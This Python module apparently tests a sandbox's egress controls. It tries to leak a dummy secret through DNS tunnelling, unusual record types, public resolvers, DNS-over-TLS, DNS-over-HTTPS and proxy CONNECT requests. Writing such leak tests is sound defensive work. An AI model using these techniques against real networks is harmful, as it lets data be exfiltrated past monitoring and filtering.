"""1 to 5: what names and questions about them can carry out."""

import base64
import random
import socket
import struct
import urllib.error
import urllib.request

from common import OPEN, REACHED, RESOLVER, UNLISTED, WAIT_S, WORLD, attempt, connect, direct, said

DATA = "c2VjcmV0LWRhdGEtdGhhdC1zaG91bGQtbm90LWxlYXZl"
TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255}
PUBLIC_RESOLVERS = ("8.8.8.8", "1.1.1.1", "9.9.9.9")


def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)


def asked(name, kind, server=None):
    """Asks the resolver that programs find here, or the one given. An answer with data other than 127.0.0.1 got out."""
    server = server or nameserver()
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.settimeout(WAIT_S)
        opened.connect((server, 53))
        opened.send(query(name, TYPES[kind]))
        answer = opened.recv(4096)
    code, answers = answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]
    if answers == 0:
        return f"DNS code {code}, nothing in it"
    return "127.0.0.1" if answer.endswith(bytes([127, 0, 0, 1])) else f"{REACHED} {answers} answers"


def nameserver():
    with open("/etc/resolv.conf", encoding="utf-8") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))


def tunnelling():
    for zone in (UNLISTED["name"], OPEN["name"], f"deep.{OPEN['name']}", WORLD["wildcard"]):
        for part in (DATA, f"{DATA}.{DATA}.{DATA}"):
            attempt(f"{part[:6]}….{zone}", asked, f"{part}.{zone}", "A")
        attempt(f"getaddrinfo {zone}", lambda name: str(socket.getaddrinfo(name, 443)[0][4][0]), f"x-{DATA}.{zone}")


def odd_types():
    for name in (UNLISTED["name"], OPEN["name"], f"{DATA}.{OPEN['name']}"):
        for kind in TYPES:
            if kind not in ("A", "AAAA"):
                attempt(f"{kind} {name}", asked, name, kind)


def other_resolver():
    for server in (RESOLVER["v4"], RESOLVER["v6"], *PUBLIC_RESOLVERS):
        attempt(f"UDP {server}", asked, f"{DATA}.{UNLISTED['name']}", "A", server)
        attempt(f"TCP {server}", direct, server, 53)
    attempt("CONNECT resolver", said, 3128, connect(f"{RESOLVER['v4']}:53"))
    attempt("CONNECT listed:53", said, 3128, connect(f"{OPEN['name']}:53"))


def dot():
    for server in (RESOLVER["v4"], RESOLVER["v6"], OPEN["v4"], *PUBLIC_RESOLVERS):
        attempt(f"TCP {server}:853", direct, server, 853)
    attempt("listed name:853", lambda: direct(socket.gethostbyname(OPEN["name"]), 853))
    for host in (OPEN["name"], UNLISTED["name"], RESOLVER["v4"]):
        attempt(f"CONNECT {host}:853", said, 3128, connect(f"{host}:853"))


def doh():
    """A listed host may answer questions. What it answers opens no way to the address."""
    question = base64.urlsafe_b64encode(query(UNLISTED["name"], 1)).decode().rstrip("=")
    for server in (UNLISTED["name"], *PUBLIC_RESOLVERS):
        attempt(f"DoH at {server}", fetched, f"https://{server}/dns-query?dns={question}")
    learnt = ".".join(str(byte) for byte in dns_query_at(OPEN["name"], question))
    attempt("address learnt by DoH", direct, learnt, 443)
    attempt("CONNECT to it", said, 3128, connect(f"{learnt}:443"))
    attempt("https by it", fetched, f"https://{learnt}/")
    attempt("its name", fetched, f"https://{UNLISTED['name']}/")


def dns_query_at(host, question):
    with urllib.request.urlopen(f"https://{host}/dns-query?dns={question}", timeout=WAIT_S) as reply:
        return reply.read()[-4:]


def fetched(address):
    try:
        with urllib.request.urlopen(address, timeout=WAIT_S) as reply:
            return reply.read().decode("latin-1")
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.headers.get('x-egress-reason', '')}"
    except urllib.error.URLError as error:
        if isinstance(error.reason, OSError):
            raise error.reason
        raise


ATTEMPTS = {1: tunnelling, 2: odd_types, 3: other_resolver, 4: dot, 5: doh}
